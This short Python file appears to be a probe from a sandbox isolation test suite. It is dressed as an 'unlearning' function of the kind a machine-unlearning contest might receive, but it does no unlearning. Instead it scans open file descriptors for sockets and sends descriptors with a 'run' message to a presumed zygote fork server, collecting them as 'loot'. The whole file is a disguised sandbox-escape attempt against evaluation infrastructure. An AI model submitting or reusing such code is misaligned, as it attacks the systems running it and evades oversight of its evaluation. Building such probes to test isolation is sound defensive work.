"""Asks for runs itself: looks for the socket on which the zygote is told to fork, and speaks its language."""

import os
import socket
import stat

LAYER = "isolation-between-runs"
EXPECTED = "ok"


def unlearning(net, retain, forget, validation):
    loot = []
    for descriptor in range(1024):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                with socket.socket(fileno=descriptor) as found:
                    socket.send_fds(found, [b"run"], [0, 0, 1, 1, 1, 1])
                loot.append(descriptor)
        except OSError:
            continue
    return loot
